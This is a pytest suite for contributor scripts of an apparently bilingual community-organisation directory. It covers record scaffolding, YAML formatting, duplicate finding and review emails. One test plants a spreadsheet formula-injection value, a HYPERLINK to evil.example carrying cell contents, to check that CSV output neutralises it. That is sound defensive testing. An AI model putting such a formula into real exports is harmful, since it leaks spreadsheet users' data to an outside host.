"""Contributor tools (scripts/new, format, duplicates, review): what they write, and what they refuse."""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import re
import shutil
import subprocess
import sys

import pytest

from conftest import FIXTURES, ROOT
from repertoire.records import read_record
from repertoire.taxonomy import load_taxonomy
from repertoire.yamlfile import load

sys.path.insert(0, str(ROOT / "scripts"))

import find_duplicates  # noqa: E402
import format_records  # noqa: E402
import new_record  # noqa: E402
import review  # noqa: E402

TOOLS = FIXTURES / "tools"
CONTENT = TOOLS / "content"  # a small categories.yaml and territories.yaml of our own
TODAY = "2026-11-23"
DUPLICATES = sorted((TOOLS / "duplicates").glob("*.yaml"))
REVIEW = sorted((TOOLS / "review").glob("*.yaml"))


@pytest.fixture(scope="module")
def tools_taxonomy():
    return load_taxonomy(CONTENT)


def copy(tmp_path, *names):
    """Fixture files copied to tmp_path (tools never write into the fixtures)."""
    paths = []
    for name in names:
        target = tmp_path / name.split("/")[-1]
        shutil.copy(TOOLS / name, target)
        paths.append(target)
    return paths


def leftovers(folder):
    """Temporary files an interrupted atomic write would leave."""
    return [p.name for p in folder.iterdir() if p.name.startswith(".")]


# --- scripts/new ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, expected",
    [
        ("Cuisine collective du quartier", "cuisine-collective-du-quartier"),
        ("Cœur à l'ouvrage : Centre d'entraide", "coeur-a-l-ouvrage-centre-d-entraide"),
        ("  Société  Saint-Vincent-de-Paul ", "societe-saint-vincent-de-paul"),
        ("Ça & Là (2e étage)", "ca-la-2e-etage"),
        # A curly apostrophe, as a word processor or a phone types it, separates words too.
        ("Centre d’aide L’Éclaircie", "centre-d-aide-l-eclaircie"),
        ("Le « Phare »", "le-phare"),
    ],
)
def test_new_makes_the_id_from_the_french_name(name, expected):
    assert new_record.make_id(name) == expected


def test_new_id_is_cut_at_a_word_within_80_characters():
    record_id = new_record.make_id("Regroupement des organismes communautaires autonomes " * 4)
    assert len(record_id) <= 80 and not record_id.endswith("-")
    assert record_id.split("-")[-1] in "regroupement des organismes communautaires autonomes".split()


def run_new(tmp_path, *args):
    return new_record.main([*args, "--dir", str(tmp_path), "--content", str(CONTENT), "--today", TODAY])


def test_new_takes_a_link_to_nothing_as_a_name_taken(tmp_path, capsys):
    # A pull request's broken link named as the new record's id: seen as free, writing there
    # failed, and the same id was tried for ever at full CPU (a hostile-input probe's, stop 81).
    import multiprocessing

    (tmp_path / "banque-alimentaire.yaml").symlink_to(tmp_path / "nowhere" / "x.yaml")
    worker = multiprocessing.get_context("fork").Process(target=run_new, args=(tmp_path, "Banque alimentaire"))
    worker.start()
    worker.join(60)
    stuck = worker.is_alive()
    if stuck:
        worker.kill()
    assert not stuck and worker.exitcode == 0
    assert (tmp_path / "banque-alimentaire-2.yaml").is_file()
    assert not list(tmp_path.glob(".new-record.*"))  # no temporary file left behind
    # Any case: "x.YAML" is the record x too (a reviewer's).
    (tmp_path / "cuisine-collective.YAML").write_text("id: cuisine-collective\n", encoding="utf-8")
    assert run_new(tmp_path, "Cuisine collective") == 0
    assert (tmp_path / "cuisine-collective-2.yaml").is_file()


def test_new_scaffolds_a_record_that_validates_once_filled(tmp_path, capsys, tools_taxonomy):
    assert (
        run_new(
            tmp_path,
            "Cœur à l'ouvrage : Centre d'entraide",
            "--category",
            "alimentation",
            "--category",
            "aines",
            "--area",
            "montreal",
        )
        == 0
    )
    path = tmp_path / "coeur-a-l-ouvrage-centre-d-entraide.yaml"
    assert capsys.readouterr().out.strip() == str(path)
    written = path.read_text(encoding="utf-8")
    assert written.startswith("# yaml-language-server: $schema=")
    assert (
        path.parent / written.split("$schema=")[1].split("\n")[0]
    ).resolve() == ROOT / "schema" / "organization.schema.json"
    data, _ = load(path)
    assert data["id"] == path.stem and data["last_verified"] == TODAY
    assert set(data["name"]) == {"fr", "en"} and set(data["description"]) == {"fr", "en"}
    assert data["categories"] == ["alimentation", "aines"] and data["service_area"] == ["montreal"]
    assert "# website:" in written and "# locations:" in written  # hints for the optional fields

    # Not valid until filled: each empty value is named with its line.
    _, errors = read_record(path, tools_taxonomy)
    assert {e.field for e in errors} == {"name.en", "description.fr", "description.en"}
    assert all(written.splitlines()[e.line - 1].lstrip().startswith(e.field.split(".")[-1] + ":") for e in errors)

    filled = (
        written.replace('en: ""  # TODO: English name', "en: Heart at Work  # TODO: English name", 1)
        .replace('fr: ""', "fr: Entraide entre voisins.")
        .replace('en: ""', "en: Neighbours helping each other.")
    )
    path.write_text(filled, encoding="utf-8")
    org, errors = read_record(path, tools_taxonomy)
    assert errors == [] and org.data["name"]["en"] == "Heart at Work"


def test_new_writes_a_file_that_format_leaves_alone(tmp_path):
    assert run_new(tmp_path, "L'Écluse", "--en", "The Lock") == 0
    written = (tmp_path / "l-ecluse.yaml").read_text(encoding="utf-8")
    assert "en: The Lock" in written and "TODO: slugs from content/categories.yaml" in written
    assert format_records.format_text(written) == written


def test_new_never_overwrites(tmp_path, capsys):
    existing = tmp_path / "maison-des-jeunes.yaml"
    existing.write_text("# someone's work\n", encoding="utf-8")
    assert run_new(tmp_path, "Maison des jeunes") == 0
    assert run_new(tmp_path, "Maison des jeunes") == 0
    assert existing.read_text(encoding="utf-8") == "# someone's work\n"
    assert load(tmp_path / "maison-des-jeunes-2.yaml")[0]["id"] == "maison-des-jeunes-2"
    assert load(tmp_path / "maison-des-jeunes-3.yaml")[0]["id"] == "maison-des-jeunes-3"
    capsys.readouterr()
    assert run_new(tmp_path, "Autre nom", "--id", "maison-des-jeunes") == 2
    assert "already exists" in capsys.readouterr().err
    assert existing.read_text(encoding="utf-8") == "# someone's work\n"
    assert leftovers(tmp_path) == []
    # A name Windows keeps for a device is refused as such, not said to exist (a helper's probe).
    assert run_new(tmp_path, "Con", "--id", "con") == 2
    said = capsys.readouterr().err
    assert "device name on Windows" in said and "already exists" not in said


@pytest.mark.parametrize(
    "args, message",
    [
        (["   "], "the name is empty"),
        (["<b>Organisme</b>"], "HTML tags are not allowed"),
        (["Organisme", "--en", ""], "--en: the name is empty"),
        (["Organisme", "--category", "alimentaton"], "unknown category 'alimentaton' (did you mean 'alimentation'?)"),
        (["Organisme", "--area", "atlantide"], "unknown territory 'atlantide'"),
        (["日本語"], "give one with --id"),
        (["Organisme", "--id", "Pas_Un_Id"], "cannot use 'Pas_Un_Id' as an id"),
    ],
)
def test_new_refuses_bad_arguments(tmp_path, capsys, args, message):
    assert run_new(tmp_path, *args) == 2
    assert message in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []


def test_new_refuses_a_missing_folder_or_vocabulary(tmp_path, capsys):
    assert new_record.main(["Organisme", "--dir", str(tmp_path / "nope")]) == 2
    assert "--dir: no folder" in capsys.readouterr().err
    assert (
        new_record.main(["Organisme", "--dir", str(tmp_path), "--content", str(tmp_path), "--category", "alimentation"])
        == 2
    )
    assert "categories.yaml: file missing" in capsys.readouterr().err


def test_new_checks_slugs_against_the_project_vocabularies(tmp_path, capsys, taxonomy):
    category, territory = next(iter(taxonomy.categories)), next(iter(taxonomy.territories))
    assert (
        new_record.main(
            ["Organisme", "--dir", str(tmp_path), "--category", category, "--area", territory, "--area", "quebec"]
        )
        == 0
    )
    data, _ = load(tmp_path / "organisme.yaml")
    assert data["categories"] == [category] and data["service_area"] == [territory, "quebec"]
    assert new_record.main(["Organisme", "--dir", str(tmp_path), "--category", category + "x"]) == 2
    assert f"unknown category '{category}x'" in capsys.readouterr().err


# --- scripts/format ------------------------------------------------------------------------


def lines_of(text):
    return text.splitlines()


def test_format_reorders_keys_and_keeps_every_comment(tmp_path, tools_taxonomy):
    (path,) = copy(tmp_path, "format/messy-record.yaml")
    before = load(path)[0]
    assert format_records.main([str(path)]) == 0
    text = path.read_text(encoding="utf-8")
    lines = lines_of(text)
    assert load(path)[0] == before
    top = [line.split(":")[0] for line in lines if re.match(r"[a-z_]+:", line)]
    assert top == [k for k in format_records.TOP_ORDER if k in before]
    assert lines[:3] == [
        "# yaml-language-server: $schema=../../../../schema/organization.schema.json",
        "# Fiche écrite à la main, champs dans le désordre.",
        "id: messy-record",
    ]
    assert lines[-1] == "# Dernier commentaire" and "" not in lines
    # Full-line comments stay before their field, end-of-line ones on their field's line.
    follows = {
        "# Catégories : la principale d'abord": "categories: [alimentation]   # primary first",
        "    # Heures d'ouverture": "    hours:",
        "  # Le télécopieur": "  - number: 514 555-0143",
    }
    for comment, field_line in follows.items():
        assert lines[lines.index(comment) + 1] == field_line
    assert "name:   # le nom officiel" in lines
    assert "  fr: >-  # texte plié" in lines
    assert "    Paniers d'épicerie # pas un commentaire" in lines
    assert "  en: Messy Record Food Bank    # English" in lines
    assert any(line.startswith("  - id: principal") and line.endswith("# identifiant du lieu") for line in lines)
    assert '      - {days: [th], opens: "13:00", closes: "21:00"}  # jeudi soir' in lines
    # Nested keys in the schema's order; times quoted.
    assert '      - {days: [mo, tu, we], opens: "09:00", closes: "12:00"}' in lines
    assert '    address: {street: "1234, rue Ontario Est", city: Montréal, postal_code: H2L 1R4}' in lines
    assert read_record(path, tools_taxonomy)[1] == []
    # Formatting again changes nothing.
    assert format_records.main([str(path)]) == 0
    assert path.read_text(encoding="utf-8") == text
    assert leftovers(tmp_path) == []


FORMAT_INPUTS = sorted(
    [*(TOOLS / "format").glob("*.yaml"), *DUPLICATES, *REVIEW, *(FIXTURES / "organizations").glob("*.yaml")]
)


@pytest.mark.parametrize("path", FORMAT_INPUTS, ids=lambda p: p.name)
def test_format_is_idempotent_and_keeps_the_meaning(path):
    original = path.read_text(encoding="utf-8-sig")
    once = format_records.format_text(original)
    assert format_records.format_text(once) == once
    assert load(path)[0] == format_records.loads(once)[0]
    kept = [c.text for c in format_records.find_comments(once)]
    assert sorted(kept) == sorted(c.text for c in format_records.find_comments(original))


def test_format_leaves_the_contract_example_as_it_is():
    example = (FIXTURES / "organizations" / "cuisine-collective-du-quartier.yaml").read_text(encoding="utf-8")
    assert format_records.format_text(example) == example


@pytest.mark.parametrize(
    "text, expected",
    [
        # Flow collections nesting more than two levels become block, level by level; the
        # others stay flow, however long their line.
        (
            'id: a\nlocations: [{id: x, hours: [{days: [mo], opens: "09:00", closes: "12:00"}]}]\n'
            "keywords: {fr: [" + ", ".join(["mot"] * 40) + "]}\n",
            "id: a\nkeywords: {fr: [" + ", ".join(["mot"] * 40) + "]}\nlocations:\n  - id: x\n"
            '    hours:\n      - {days: [mo], opens: "09:00", closes: "12:00"}\n',
        ),
        # A comment inside a flow collection makes it block, so the comment keeps its place.
        (
            "id: a\nname: {fr: Nom,\n  # English name below\n  en: Name}\n",
            "id: a\nname:\n  fr: Nom\n  # English name below\n  en: Name\n",
        ),
        # Unknown keys are kept, after the known ones; blank lines go; indentation becomes 2 spaces.
        (
            "notes: x\n\nid: a\nphones:\n- number: 514 555-0100\n\n  type: voice\n",
            "id: a\nphones:\n  - number: 514 555-0100\n    type: voice\nnotes: x\n",
        ),
        # Text is never refolded: a long line stays one line, plain text over two lines is joined.
        (
            'id: a\ndescription:\n  fr: "' + "mot " * 80 + 'fin"\n  en: Plain text\n    on two lines\n',
            'id: a\ndescription:\n  fr: "' + "mot " * 80 + 'fin"\n  en: Plain text on two lines\n',
        ),
        # A byte-order mark and Windows line ends go; an unquoted time is quoted.
        (
            "\ufeffid: a\r\nlocations:\r\n  - id: x\r\n    hours:\r\n      - {days: [mo], opens: 9:00, closes: 17:00}\r\n",
            'id: a\nlocations:\n  - id: x\n    hours:\n      - {days: [mo], opens: "9:00", closes: "17:00"}\n',
        ),
    ],
)
def test_format_layout_rules(text, expected):
    assert format_records.format_text(text) == expected
    assert format_records.format_text(expected) == expected


def test_format_check_lists_files_and_writes_nothing(tmp_path, capsys):
    messy, canonical = copy(tmp_path, "format/messy-record.yaml", "format/canonical-record.yaml")
    messy_bytes = messy.read_bytes()
    assert format_records.main(["--check", str(canonical)]) == 0
    assert capsys.readouterr().out == ""
    assert format_records.main(["--check", "--diff", str(messy), str(canonical)]) == 1
    out = capsys.readouterr().out
    assert out.splitlines()[0] == str(messy) and str(canonical) not in out.splitlines()
    assert "+id: messy-record" in out
    assert messy.read_bytes() == messy_bytes


def test_format_takes_every_record_by_default(tmp_path):
    (tmp_path / "organizations").mkdir()
    copy(tmp_path / "organizations", "format/messy-record.yaml", "format/canonical-record.yaml")
    assert format_records.main(["--check", "--content", str(tmp_path)]) == 1
    assert format_records.main(["--content", str(tmp_path)]) == 0
    assert format_records.main(["--check", "--content", str(tmp_path)]) == 0


def test_format_refuses_to_change_what_a_record_says(tmp_path, capsys, monkeypatch):
    (path,) = copy(tmp_path, "format/messy-record.yaml")
    original = path.read_bytes()
    reorder = format_records._reorder

    def faulty_reorder(node, *args, **kwargs):
        reorder(node, *args, **kwargs)
        if isinstance(node, dict) and "email" in node:
            node["email"] = "autre@example.org"

    monkeypatch.setattr(format_records, "_reorder", faulty_reorder)
    assert format_records.main([str(path)]) == 1
    assert "would change the data at 'email'" in capsys.readouterr().err
    assert path.read_bytes() == original

    monkeypatch.setattr(format_records, "_reorder", reorder)
    monkeypatch.setattr(format_records, "_attach", lambda *args: None)  # a dumper that drops comments
    assert format_records.main([str(path)]) == 1
    assert "would lose comment(s)" in capsys.readouterr().err
    assert path.read_bytes() == original


@pytest.mark.parametrize(
    "text, message",
    [
        ("id: a\nname: [unclosed\n", "YAML syntax error"),
        ("id: a\nid: b\n", "duplicate key 'id'"),
        ("- a\n- b\n", "not a record"),
    ],
)
def test_format_reports_unreadable_files(tmp_path, capsys, text, message):
    path = tmp_path / "broken.yaml"
    path.write_text(text, encoding="utf-8")
    assert format_records.main([str(path)]) == 1
    err = capsys.readouterr().err
    assert f"{path}:" in err and message in err
    assert path.read_text(encoding="utf-8") == text


def test_format_refuses_bad_arguments(tmp_path, capsys):
    assert format_records.main([str(tmp_path / "missing.yaml")]) == 2
    assert "no such file" in capsys.readouterr().err
    assert format_records.main(["--content", str(tmp_path)]) == 2
    assert "no folder" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exit_:
        format_records.main(["--chek"])
    assert exit_.value.code == 2


# --- scripts/duplicates --------------------------------------------------------------------

EXPECTED_GROUPS = {
    frozenset({"cuisine-collective-du-quartier", "popote-roulante-hochelaga", "groupe-entraide-ontario"}),
    frozenset({"maison-des-jeunes-le-phare", "mdj-le-phare"}),
    frozenset({"centre-de-la-famille-saint-michel", "famille-st-michel"}),
}


def test_duplicates_finds_the_planted_ones_only(tools_taxonomy):
    records, unreadable = find_duplicates.read_all(DUPLICATES, jobs=1, numbering=tools_taxonomy.conventions.phones)
    assert unreadable == []
    groups = find_duplicates.find_groups(records)
    assert {frozenset(records[i].id for i in members) for members, _ in groups} == EXPECTED_GROUPS
    reasons = {r for _, rs in groups for r in rs}
    assert "same phone 514 555-2468 (cuisine-collective-du-quartier, popote-roulante-hochelaga)" in reasons
    assert any(r.startswith("same address 1234, rue Ontario Est") and "groupe-entraide-ontario" in r for r in reasons)
    assert (
        "similar names 'Maison des jeunes Le Phar' and 'Maison des jeunes Le Phare', ratio 0.98 "
        "(maison-des-jeunes-le-phare, mdj-le-phare)" in reasons
    )
    assert (
        "same name without generic words ('famille saint michel') "
        "(centre-de-la-famille-saint-michel, famille-st-michel)" in reasons
    )


def test_duplicates_text_and_csv_output(capsys):
    assert find_duplicates.main([str(p) for p in DUPLICATES]) == 1
    out = capsys.readouterr().out
    assert out.startswith("1. 2 records:") and "- same phone 514 555-2468" in out
    assert "maison-des-jeunes-le-repere" not in out and "friperie" not in out
    assert find_duplicates.main(["--format=csv", *map(str, DUPLICATES)]) == 1
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert {frozenset(r["id"] for r in rows if r["group"] == g) for g in {r["group"] for r in rows}} == EXPECTED_GROUPS
    assert all(r["file"].endswith(r["id"] + ".yaml") and r["reasons"] for r in rows)


def test_duplicates_csv_keeps_a_formula_like_name_as_text(tmp_path, capsys):
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")'
    for name in ("maison-des-jeunes-le-phare", "mdj-le-phare"):
        text = (TOOLS / "duplicates" / f"{name}.yaml").read_text(encoding="utf-8")
        text = re.sub(r"^name: .*$", "name: '" + formula.replace("'", "''") + "'", text, count=1, flags=re.M)
        (tmp_path / f"{name}.yaml").write_text(text, encoding="utf-8")
    assert find_duplicates.main(["--format=csv", *map(str, sorted(tmp_path.glob("*.yaml")))]) == 1
    names = [row["name"] for row in csv.DictReader(io.StringIO(capsys.readouterr().out))]
    assert names == ["'" + formula] * 2  # a spreadsheet shows it, does not run it


def test_duplicates_exit_0_when_none(capsys):
    distinct = [
        TOOLS / "duplicates" / f"{name}.yaml"
        for name in (
            "maison-des-jeunes-le-repere",
            "maison-des-jeunes-le-phare",
            "friperie-local-12",
            "friperie-local-13",
            "cuisine-collective-du-quartier",
        )
    ]
    assert find_duplicates.main([str(p) for p in distinct]) == 0
    assert capsys.readouterr().out == ""


def test_duplicates_refuses_bad_arguments(tmp_path, capsys):
    assert find_duplicates.main([str(tmp_path / "missing.yaml")]) == 2
    assert "no such file" in capsys.readouterr().err
    assert find_duplicates.main(["--threshold", "1.5", str(DUPLICATES[0])]) == 2
    assert "--threshold must be between 0 and 1" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exit_:
        find_duplicates.main(["--format=xml"])
    assert exit_.value.code == 2


def test_duplicates_skips_unreadable_records_with_a_warning(tmp_path, capsys):
    broken = tmp_path / "broken.yaml"
    broken.write_text("id: [\n", encoding="utf-8")
    assert find_duplicates.main([str(broken), str(DUPLICATES[0])]) == 0
    assert f"warning: skipped {broken}:" in capsys.readouterr().err


def test_duplicates_compares_a_bounded_number_of_names(monkeypatch):
    """Sorted neighbourhoods: at most 3 x WINDOW comparisons a name, never all pairs."""
    rng = random.Random(7)
    words = [
        "Centre",
        "Maison",
        "Cuisine",
        "Entraide",
        "Popote",
        "Comptoir",
        "Carrefour",
        "Halte",
        "Groupe",
        "Ressource",
        "Soutien",
        "Accueil",
        "Familles",
        "Jeunes",
        "Aînés",
        "Quartier",
        "Nord",
        "Sud",
        "Est",
    ]
    records = [
        find_duplicates.Record(f"{i}.yaml", f"r{i}", "", [" ".join(rng.sample(words, 4)) + f" {rng.choice(words)}"])
        for i in range(3000)
    ]
    calls = []
    real = find_duplicates.similar
    monkeypatch.setattr(find_duplicates, "similar", lambda *args: calls.append(1) or real(*args))
    list(find_duplicates.similar_names(records))
    assert len(calls) <= 3 * find_duplicates.WINDOW * len(records)


# --- scripts/review ------------------------------------------------------------------------


def run_review(*args):
    return review.main(
        [
            "--content",
            str(CONTENT),
            "--today",
            TODAY,
            "--settings",
            str(ROOT / "publishconf.py"),
            *args,
            *map(str, REVIEW),
        ]
    )


def test_review_lists_stale_records_by_email(capsys):
    assert run_review("--site-url", "") == 0
    out = capsys.readouterr().out
    assert out.startswith("3 fiche(s) à faire confirmer")
    blocks = out.split("\n\n")
    assert blocks[1].splitlines()[0] == "info@example.org"  # Info@Example.org and info@example.org together
    assert "banque-alimentaire-du-centre" in blocks[1] and "popote-de-l-est" in blocks[1]
    assert blocks[2].splitlines()[0].startswith("sans courriel")
    assert "halte-sans-courriel" in blocks[2] and "418 555-0199 ; 211" in blocks[2]
    assert "centre-a-jour" not in out


def test_review_writes_messages_and_csv(tmp_path, capsys):
    out = tmp_path / "demandes"
    assert run_review("--out", str(out), "--site-url", "https://repertoire.example.org") == 0
    assert sorted(p.name for p in out.iterdir()) == [
        "banque-alimentaire-du-centre.txt",
        "halte-sans-courriel.txt",
        "popote-de-l-est.txt",
        "review.csv",
    ]
    bilingual = (out / "banque-alimentaire-du-centre.txt").read_text(encoding="utf-8")
    french, english = bilingual.split("\n" + "-" * 40 + "\n")
    for fragment in [
        "Objet\u00a0: ",
        "Nom\u00a0: Banque alimentaire du Centre",
        "Autres noms\u00a0: BAC",
        "Description\u00a0: Paniers d'épicerie",
        "514 555-0150 (Accueil) ; 514 555-0151 (télécopieur)",
        "Courriel\u00a0: Info@Example.org",
        "Site Web\u00a0: https://example.org/bac",
        "Entrepôt",
        "Adresse\u00a0: 200, rue Sainte-Catherine Est, Montréal H2X 1L1",
        "lundi\u00a0: ",
        "mardi\u00a0: fermé",
        "(le lendemain)",
        "25 décembre 2026\u00a0: fermé",
        "14 septembre 2024",
        "https://repertoire.example.org/fr/organismes/banque-alimentaire-du-centre/",
        "répondez à ce courriel",
        "rien n'a changé",
    ]:
        assert fragment in french
    assert "2025" not in french.split("Heures particulières")[1]  # past special dates are left out
    for fragment in [
        "Subject: ",
        "Name: Downtown Food Bank",
        "Weekly grocery baskets",
        "(Reception)",
        "Warehouse",
        "Friday: ",
        "(next day)",
        "September 14, 2024",
        "reply to this e-mail",
        "nothing has changed",
        "https://repertoire.example.org/en/organizations/banque-alimentaire-du-centre/",
    ]:
        assert fragment in english
    french_only = (out / "popote-de-l-est.txt").read_text(encoding="utf-8")
    assert "Nom\u00a0: Popote de l'Est" in french_only and "Subject:" not in french_only
    assert "Ouvert 24 heures sur 24" in (out / "halte-sans-courriel.txt").read_text(encoding="utf-8")

    with open(out / "review.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == list(review.CSV_COLUMNS)
    by_id = {row["id"]: row for row in rows}
    assert list(by_id) == ["banque-alimentaire-du-centre", "popote-de-l-est", "halte-sans-courriel"]
    assert by_id["banque-alimentaire-du-centre"] == {
        "id": "banque-alimentaire-du-centre",
        "name_fr": "Banque alimentaire du Centre",
        "email": "Info@Example.org",
        "phone": "514 555-0150",
        "last_verified": "2024-09-14",
        "days_since": "800",
        "page_url": "https://repertoire.example.org/fr/organismes/banque-alimentaire-du-centre/",
        "message_file": "banque-alimentaire-du-centre.txt",
    }
    assert (
        by_id["halte-sans-courriel"]["email"] == "" and by_id["halte-sans-courriel"]["phone"] == "418 555-0199"
    )  # stored one way
    assert leftovers(out) == []


def test_review_writes_dates_and_phones_as_the_pages_do():
    # A contributors' probe (stop 78): "confirmés pour la dernière fois le 1 janvier 2024" where
    # the page says "1er janvier"; "418 555-0159 (Texto, texto)", the type said twice.
    data = {"name": {"fr": "Exemple"}, "description": {"fr": "Aide."}, "last_verified": "2024-01-01"}
    said = review.message(data, "fr", "https://example.org/", "Répertoire", dt.date(2026, 1, 5), "fr_CA")
    assert "1er janvier 2024" in said and "le 1 janvier" not in said
    texted = {"number": "418 555-0159", "type": "text", "description": {"fr": "Texto", "en": "Text"}}
    assert review.phone_line(texted, "fr") == "418 555-0159 (Texto)"
    evening = {"number": "418 555-0159", "type": "text", "description": {"fr": "Soir", "en": "Evening"}}
    assert review.phone_line(evening, "fr") == "418 555-0159 (Soir, texto)"


def test_review_period_and_relative_addresses(tmp_path, capsys):
    assert run_review("--days", "500", "--out", str(tmp_path), "--site-url", "") == 0
    assert "popote-de-l-est" not in capsys.readouterr().out
    text = (tmp_path / "banque-alimentaire-du-centre.txt").read_text(encoding="utf-8")
    assert "\n/fr/organismes/banque-alimentaire-du-centre/\n" in text


def test_review_refuses_bad_arguments(tmp_path, capsys):
    a_file = tmp_path / "notes.txt"
    a_file.write_text("x", encoding="utf-8")
    assert run_review("--out", str(a_file)) == 2
    assert "is a file; give a folder" in capsys.readouterr().err
    assert a_file.read_text(encoding="utf-8") == "x"
    assert run_review("--days", "-1") == 2
    assert "--days must be 0 or more" in capsys.readouterr().err
    assert review.main(["--content", str(tmp_path), str(REVIEW[0])]) == 2
    assert "categories.yaml: file missing" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exit_:
        review.main(["--today", "23/11/2026"])
    assert exit_.value.code == 2


# --- the bash wrappers ---------------------------------------------------------------------


@pytest.mark.parametrize("wrapper", ["new", "format", "duplicates", "review"])
def test_wrappers_run_the_modules(wrapper):
    result = subprocess.run([str(ROOT / "scripts" / wrapper), "--help"], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0 and result.stdout.startswith("usage:")


def test_duplicates_wrapper_exit_code():
    result = subprocess.run(
        [str(ROOT / "scripts" / "duplicates"), *map(str, DUPLICATES)], capture_output=True, text=True, timeout=120
    )
    assert result.returncode == 1 and "3 group(s) of possible duplicates" in result.stderr


@pytest.mark.parametrize("name", sorted(path.name for path in (ROOT / "tests" / "hostile" / "records").glob("*.yaml")))
def test_format_says_why_it_leaves_a_hostile_record_as_is(tmp_path, name):
    path = tmp_path / name
    original = (ROOT / "tests" / "hostile" / "records" / name).read_bytes()
    path.write_bytes(original)
    status, detail = format_records.format_file(path)  # never a traceback
    assert status == "error" and detail.startswith(f"{path}:"), (status, detail)
    assert path.read_bytes() == original


def test_format_leaves_numbers_it_cannot_lay_out_as_they_are(tmp_path):
    path = tmp_path / "big.yaml"
    path.write_text("id: big\nname: Grand\nminimum_age: " + "9" * 5000 + "\n", encoding="utf-8")
    status, detail = format_records.format_file(path)
    assert status == "error" and "file left as is" in detail
